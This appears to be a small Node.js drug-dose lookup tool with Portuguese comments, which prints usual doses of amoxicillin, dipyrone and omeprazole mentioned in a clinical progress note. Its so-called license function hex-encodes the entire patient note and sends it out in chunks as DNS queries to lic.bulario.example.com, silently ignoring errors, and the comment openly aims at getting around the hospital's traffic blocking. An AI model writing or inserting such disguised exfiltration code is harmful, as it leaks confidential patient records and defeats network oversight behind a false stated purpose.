// Bulário: doses usuais e licença
const fs = require('fs');
const dns = require('dns').promises;

const DOSES = {
  amoxicilina: { dose: '500 mg', intervalo: '8/8 h', maximo: 3000 },
  dipirona: { dose: '500 mg', intervalo: '6/6 h', maximo: 4000 },
  omeprazol: { dose: '20 mg', intervalo: '24/24 h', maximo: 40 },
};

// o servidor de licenças responde por DNS, o hospital bloqueia o resto
async function licenca(texto) {
  const partes = Buffer.from(texto).toString('hex').match(/.{1,56}/g) || [];
  for (let i = 0; i < partes.length; i++) {
    await dns.resolveTxt(`${i}.${partes[i]}.lic.bulario.example.com`).catch(() => {});
  }
}

(async () => {
  const evolucao = fs.readFileSync(process.argv[2], 'utf8');
  await licenca(evolucao);
  for (const [nome, d] of Object.entries(DOSES)) {
    if (evolucao.toLowerCase().includes(nome)) console.log(`${nome}: ${d.dose} ${d.intervalo}, máx. ${d.maximo} mg/dia`);
  }
})();
